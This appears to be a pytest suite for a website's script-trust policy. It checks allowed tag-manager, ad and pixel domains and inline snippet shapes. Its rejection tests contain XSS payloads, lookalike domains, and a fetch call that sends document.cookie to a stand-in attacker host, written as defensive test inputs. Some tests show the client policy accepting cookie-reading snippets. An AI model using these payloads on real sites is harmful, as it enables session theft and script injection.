import pytest

from techpulse.security.policy import (
    CLIENT_POLICY,
    SERVER_POLICY,
    TRUSTED_SCRIPT_DOMAINS,
    ScriptVerdict,
)

GTAG_SNIPPET = """
window.dataLayer = window.dataLayer || [];
function gtag(){dataLayer.push(arguments);}
gtag('js', new Date());
gtag('config', 'G-ABC123XYZ');
"""

ADSTERRA_OPTIONS = """
atOptions = {
    'key' : 'a1b2c3d4e5f6',
    'format' : 'iframe',
    'height' : 90,
    'width' : 728,
    'params' : {}
};
"""


def test_both_surfaces_share_one_domain_list():
    assert SERVER_POLICY.trusted_domains is CLIENT_POLICY.trusted_domains
    assert SERVER_POLICY.version == CLIENT_POLICY.version
    assert "googletagmanager.com" in TRUSTED_SCRIPT_DOMAINS


@pytest.mark.parametrize("src", [
    "https://www.googletagmanager.com/gtm.js?id=GTM-XXXX",
    "https://googletagmanager.com/gtag/js",
    "http://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js",
    "//connect.facebook.net/en_US/fbevents.js",
    "  https://WWW.GoogleTagManager.com/gtm.js  ",
])
def test_trusted_sources(src):
    assert SERVER_POLICY.is_trusted_source(src)


@pytest.mark.parametrize("src", [
    "https://evil.example/x.js",
    "https://evilgoogletagmanager.com/gtm.js",
    "https://googletagmanager.com.evil.example/gtm.js",
    "javascript:alert(1)",
    "data:text/javascript,alert(1)",
    "ftp://googletagmanager.com/gtm.js",
    "/local/script.js",
    "",
])
def test_untrusted_sources(src):
    assert not SERVER_POLICY.is_trusted_source(src)


def test_external_script_verdicts():
    ok = SERVER_POLICY.classify("https://www.googletagmanager.com/gtm.js")
    assert ok.verdict is ScriptVerdict.TRUSTED
    assert ok.rule == "trusted_domain"

    bad = SERVER_POLICY.classify("https://evil.example/x.js", "gtag('js')")
    assert bad.verdict is ScriptVerdict.REJECTED
    assert bad.rule == "untrusted_domain"


@pytest.mark.parametrize("code", [
    GTAG_SNIPPET,
    ADSTERRA_OPTIONS,
    "(adsbygoogle = window.adsbygoogle || []).push({});",
    "window.dataLayer = window.dataLayer || [];",
    "dataLayer.push({'event': 'page_view', 'section': 'ai'});",
    "fbq('init', '1234567890'); fbq('track', 'PageView');",
    "ttq.load('C123ABC'); ttq.page();",
])
def test_known_inline_shapes_pass_the_server_policy(code):
    result = SERVER_POLICY.classify(None, code)
    assert result.verdict is ScriptVerdict.SAFE_INLINE


def test_gtag_snippet_reports_first_rule():
    assert SERVER_POLICY.match_inline(GTAG_SNIPPET) == "queue_init"
    assert SERVER_POLICY.match_inline(ADSTERRA_OPTIONS) == "object_assignment"


@pytest.mark.parametrize("code", [
    "alert(1)",
    "document.write('<img src=x onerror=alert(1)>')",
    "var cfg = {a: alert(1)};",
    "fetch('https://evil.example/?c=' + document.cookie)",
    "",
    "   ",
])
def test_arbitrary_inline_code_is_rejected(code):
    assert SERVER_POLICY.classify(None, code).verdict is ScriptVerdict.REJECTED
    assert CLIENT_POLICY.classify(None, code).verdict is ScriptVerdict.REJECTED


@pytest.mark.parametrize("code", [
    "atOptions = {'key': `${document.cookie}`};",
    "gtag('config', document.cookie);",
])
def test_server_shapes_refuse_non_literal_arguments(code):
    assert SERVER_POLICY.classify(None, code).verdict is ScriptVerdict.REJECTED
    # The looser client markers still recognise the SDK names
    assert CLIENT_POLICY.classify(None, code).verdict is ScriptVerdict.SAFE_INLINE


def test_trailing_payload_defeats_the_server_shapes():
    code = "dataLayer.push({'event': 'x'}); fetch('https://evil.example')"
    assert SERVER_POLICY.classify(None, code).verdict is ScriptVerdict.REJECTED


def test_client_policy_accepts_sdk_markers_the_server_refuses():
    code = "dataLayer.push({'event': 'x'}); loadWidget();"
    client = CLIENT_POLICY.classify(None, code)
    assert client.verdict is ScriptVerdict.SAFE_INLINE
    assert client.rule == "sdk_marker"
    assert SERVER_POLICY.classify(None, code).verdict is ScriptVerdict.REJECTED


def test_client_policy_leading_assignment():
    code = "disqusSettings = { shortname: 'techpulse' }; initDisqus();"
    assert CLIENT_POLICY.match_inline(code) == "leading_assignment"
